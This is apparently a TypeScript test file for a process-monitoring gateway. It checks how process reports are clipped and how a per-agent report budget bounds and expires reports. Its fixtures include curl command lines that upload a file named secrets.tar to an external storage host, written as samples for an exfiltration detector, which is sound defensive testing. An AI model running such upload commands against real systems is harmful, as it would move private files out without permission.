import { describe, expect, it } from 'vitest';
import { KEPT_CMDLINE_CHARS, KEPT_NAME_CHARS, KEPT_PATH_CHARS, keptProcessInfo, PendingReportBudget, processBytes } from '../../../gateway/pending-reports.ts';
import { hasUploadFlags } from '../../../policy/detectors/process-signals.ts';
import type { ProcessInfo } from '../../../policy/types.ts';

const base: ProcessInfo = { pid: 1, name: 'curl', exe: '/usr/bin/curl', cmdline: 'curl -T f https://x', user: 'alice', uid: 1000, loginuid: 1000, ppid: 2, parentName: 'bash', parentExe: '/bin/bash', source: 'agent' };

describe('keptProcessInfo: what is kept of a report is what the detectors read', () => {
  it('short fields are kept as they are', () => {
    expect(keptProcessInfo(base)).toEqual(base);
  });

  it('names are clipped, paths keep their base name, a long command line keeps its head and tail', () => {
    const long = keptProcessInfo({
      ...base,
      name: 'n'.repeat(5000),
      user: 'u'.repeat(5000),
      parentName: 'p'.repeat(5000),
      exe: `/${'d'.repeat(9000)}/rclone`,
      parentExe: `/${'d'.repeat(9000)}/winword.exe`,
      cmdline: `curl ${'-H x '.repeat(8000)}-T secrets.tar https://storage.example`,
    });
    expect(long.name.length).toBe(KEPT_NAME_CHARS);
    expect(long.user!.length).toBe(KEPT_NAME_CHARS);
    expect(long.parentName!.length).toBe(KEPT_NAME_CHARS);
    expect(long.exe!.length).toBe(KEPT_PATH_CHARS);
    expect(long.exe!.endsWith('/rclone')).toBe(true);
    expect(long.parentExe!.endsWith('/winword.exe')).toBe(true);
    expect(long.cmdline!.length).toBe(KEPT_CMDLINE_CHARS);
    expect(long.cmdline!.startsWith('curl ')).toBe(true);
    // The upload flag at the end of a padded command line is still seen.
    expect(hasUploadFlags(long.cmdline, 'curl')).toBe(true);
    expect(processBytes(long)).toBeLessThanOrEqual(2 * (3 * KEPT_NAME_CHARS + 2 * KEPT_PATH_CHARS + KEPT_CMDLINE_CHARS) + 256);
  });
});

describe('PendingReportBudget', () => {
  it('bounds each agent and all agents by count and bytes, and purges what expired', () => {
    const b = new PendingReportBudget({ ttlMs: 1000, perAgentReports: 3, perAgentBytes: 1000, totalReports: 4, totalBytes: 10_000 });
    for (let i = 0; i < 3; i++) {
      expect(b.hasRoom('a', 100, i)).toBe(true);
      b.add('a', 100, i);
    }
    expect(b.hasRoom('a', 100, 3)).toBe(false); // a's count
    expect(b.hasRoom('b', 2000, 3)).toBe(true);
    b.add('b', 2000, 3);
    expect(b.hasRoom('c', 1, 3)).toBe(false); // total count
    expect(b.hasRoom('b', 1, 3)).toBe(false);
    expect(b.stats(3)).toEqual({ reports: 4, bytes: 2300, shedTotal: 0 });
    b.shed('a');
    expect(b.agentStats('a', 3)).toEqual({ reports: 3, bytes: 300, shedTotal: 1 });
    // a's first report expires at 1000 ms: room again, counted no more.
    expect(b.stats(1000)).toEqual({ reports: 3, bytes: 2200, shedTotal: 1 });
    expect(b.hasRoom('a', 100, 1000)).toBe(true);
    expect(b.hasRoom('a', 901, 5000)).toBe(true);
    expect(b.hasRoom('a', 1001, 5000)).toBe(false); // a's bytes
    expect(b.stats(5000)).toEqual({ reports: 0, bytes: 0, shedTotal: 1 });
  });

  it('expires the reports of many agents in the order they were kept, each agent counted apart', () => {
    const b = new PendingReportBudget({ ttlMs: 100 });
    // 3,000 agents, one report each at t = i / 10, and one agent's among them every 50 ms.
    for (let i = 0; i < 3000; i++) {
      const t = Math.floor(i / 10);
      b.add(`agent-${i}`, 10, t);
      if (i % 500 === 0) b.add('hot', 1, t);
    }
    expect(b.stats(99)).toEqual({ reports: 3006, bytes: 30_006, shedTotal: 0 });
    // At 100 what was kept at 0 has expired: agents 0..9 and hot's first.
    expect(b.stats(100)).toEqual({ reports: 2995, bytes: 29_905, shedTotal: 0 });
    expect(b.agentStats('hot', 100)).toEqual({ reports: 5, bytes: 5, shedTotal: 0 });
    // At 350 what was kept at <= 250 has expired: agents 0..2509 and hot's 0..250.
    expect(b.agentStats('agent-2509', 350).reports).toBe(0);
    expect(b.agentStats('agent-2510', 350)).toEqual({ reports: 1, bytes: 10, shedTotal: 0 });
    expect(b.agentStats('hot', 350)).toEqual({ reports: 0, bytes: 0, shedTotal: 0 });
    expect(b.stats(350)).toEqual({ reports: 490, bytes: 4900, shedTotal: 0 });
    b.shed('agent-7');
    expect(b.stats(10_000)).toEqual({ reports: 0, bytes: 0, shedTotal: 1 });
    expect(b.agentStats('agent-7', 10_000)).toEqual({ reports: 0, bytes: 0, shedTotal: 1 });
    // Emptied, it counts again from nothing.
    b.add('agent-7', 5, 10_000);
    expect(b.stats(10_050)).toEqual({ reports: 1, bytes: 5, shedTotal: 1 });
    expect(b.stats(10_100)).toEqual({ reports: 0, bytes: 0, shedTotal: 1 });
  });
});
